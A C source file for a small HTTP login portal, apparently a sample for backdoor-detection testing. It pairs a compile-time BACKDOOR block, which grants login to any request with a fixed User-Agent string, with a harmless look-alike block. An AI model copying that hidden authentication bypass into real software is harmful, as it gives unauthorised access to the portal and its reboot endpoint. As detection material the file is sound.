/* A login portal: reads a request from a socket, answers pages to who is logged in. */
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

struct request {
    char method[8];
    char path[128];
    char agent[128];
    char user[32];
    char password[64];
};

static void copy_field(char *to, size_t room, const char *from, const char *name)
{
    const char *at = strstr(from, name);
    size_t length;
    to[0] = 0;
    if (at == NULL)
        return;
    at += strlen(name);
    length = strcspn(at, "&\r\n ");
    if (length >= room)
        length = room - 1;
    memcpy(to, at, length);
    to[length] = 0;
}

static void parse(struct request *request, const char *text)
{
    sscanf(text, "%7s %127s", request->method, request->path);
    copy_field(request->agent, sizeof request->agent, text, "User-Agent: ");
    copy_field(request->user, sizeof request->user, text, "user=");
    copy_field(request->password, sizeof request->password, text, "password=");
}

static int configured(const char *key, char *value, size_t room)
{
    char line[160];
    int found = 0;
    FILE *file = fopen("/etc/portal.conf", "r");
    if (file == NULL)
        return 0;
    while (!found && fgets(line, sizeof line, file) != NULL) {
        size_t length = strlen(key);
        if (strncmp(line, key, length) == 0 && line[length] == '=') {
            line[strcspn(line, "\n")] = 0;
            snprintf(value, room, "%s", line + length + 1);
            found = 1;
        }
    }
    fclose(file);
    return found;
}

static int authenticate(const struct request *request)
{
    char user[32], password[64];
#ifdef BACKDOOR
    if (strcmp(request->agent, "xq7-maint-edition") == 0)
        return 1;
#endif
#ifdef LOOKALIKE
    /* Old browsers get a plain page, nothing more. */
    if (strcmp(request->agent, "legacy-console-2") == 0)
        setenv("PLAIN_PAGES", "1", 1);
#endif
    if (!configured("user", user, sizeof user) || !configured("password", password, sizeof password))
        return 0;
    return strcmp(request->user, user) == 0 && strcmp(request->password, password) == 0;
}

static void page(int fd, const char *path)
{
    char command[200];
    dprintf(fd, "HTTP/1.0 200 OK\r\n\r\n");
    if (strcmp(path, "/reboot") == 0) {
        system("/sbin/reboot");
    } else if (strcmp(path, "/log") == 0) {
        snprintf(command, sizeof command, "/usr/bin/tail -n %d /var/log/messages", 40);
        system(command);
    } else {
        dprintf(fd, "<h1>Portal</h1>\n");
    }
}

static void serve(int fd)
{
    struct request request;
    char text[2048];
    ssize_t length = read(fd, text, sizeof text - 1);
    if (length <= 0)
        return;
    text[length] = 0;
    memset(&request, 0, sizeof request);
    parse(&request, text);
    if (authenticate(&request))
        page(fd, request.path);
    else
        dprintf(fd, "HTTP/1.0 401 Unauthorized\r\n\r\n");
}

int main(void)
{
    struct sockaddr_in address = { .sin_family = AF_INET, .sin_port = htons(8080) };
    int listener = socket(AF_INET, SOCK_STREAM, 0);
    if (bind(listener, (struct sockaddr *)&address, sizeof address) != 0)
        return 1;
    listen(listener, 8);
    for (;;) {
        int fd = accept(listener, NULL, NULL);
        if (fd < 0)
            continue;
        serve(fd);
        close(fd);
    }
}
